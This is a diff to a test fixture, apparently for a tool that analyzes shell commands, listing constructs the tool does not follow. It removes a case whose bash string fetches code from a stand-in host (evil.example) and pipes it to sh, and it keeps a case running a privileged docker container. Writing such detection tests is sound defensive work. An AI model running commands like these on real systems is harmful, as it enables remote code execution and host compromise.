@@ -69,13 +69,6 @@ export const NOT_FOLLOWED: readonly Limit[] = [
     told: ['-privileged-container', 'shell-wrapper@it'],
   },
   {
-    name: 'a function’s argument as a part of a word',
-    file: bash('f() { c$1 https://evil.example/x | sh; }; f url'),
-    reason:
-      'What a function is called with is put in for whole words; else it counts for nothing, as where there is none.',
-    told: [MISSED, 'shell-wrapper@it'],
-  },
-  {
     name: 'a variable that nobody has set',
     file: bash('docker run $o --privileged example/notes:1.4.2'),
     reason: 'The environment may have set it: it stands where the image is expected, and may be one.',
